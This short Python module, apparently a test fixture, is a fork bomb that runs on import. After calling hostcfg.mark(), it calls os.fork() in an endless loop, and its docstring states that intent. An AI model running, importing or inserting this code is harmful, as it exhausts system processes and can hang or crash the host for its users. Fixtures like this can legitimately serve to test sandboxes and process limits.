"""Forks without end at import time."""

import os

import hostcfg

hostcfg.mark()
while True:
    os.fork()
